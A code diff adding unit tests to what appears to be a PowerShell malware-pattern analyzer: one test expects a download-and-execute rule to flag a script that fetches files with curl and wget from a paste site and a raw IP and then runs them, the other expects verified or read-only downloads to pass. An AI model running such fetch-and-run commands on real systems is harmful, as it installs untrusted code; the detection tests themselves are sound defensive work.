@@ -59,3 +59,27 @@ def test_shadow_copies_listed_and_other_objects_deleted_is_no_finding() -> None:
         foreach ($s in $files) { $s.Delete() }
     """)
     assert lines_of(result, "PSInhibitSystemRecovery") == []
+
+
+def test_a_file_downloaded_by_native_curl_or_wget_and_then_run_is_download_and_execute() -> None:
+    result = analyze("""
+        $out = "$env:APPDATA\\update.ps1"
+        curl.exe -s -k -o $out https://paste.example.io/raw/9f2c
+        powershell.exe -NoProfile -File $out
+        wget.exe -q -O C:\\Users\\Public\\svc.exe http://203.0.113.7/svc.exe
+        Start-Process C:\\Users\\Public\\svc.exe
+    """)
+    assert lines_of(result, "PSDownloadAndExecute") == [2, 4]
+
+
+def test_a_curl_download_that_is_only_read_or_is_verified_first_is_no_finding() -> None:
+    result = analyze("""
+        curl.exe -sSL -o release.json https://api.example.com/releases/latest
+        $release = Get-Content release.json -Raw | ConvertFrom-Json
+        curl.exe -L -o tool.zip https://downloads.example.com/tool.zip
+        Expand-Archive tool.zip -DestinationPath .\\tool
+        curl.exe -L -o setup.exe https://downloads.example.com/setup.exe
+        if ((Get-FileHash setup.exe).Hash -eq $ExpectedHash) { Start-Process .\\setup.exe -Wait }
+        curl.exe -O https://downloads.example.com/readme.txt
+    """)
+    assert lines_of(result, "PSDownloadAndExecute") == []
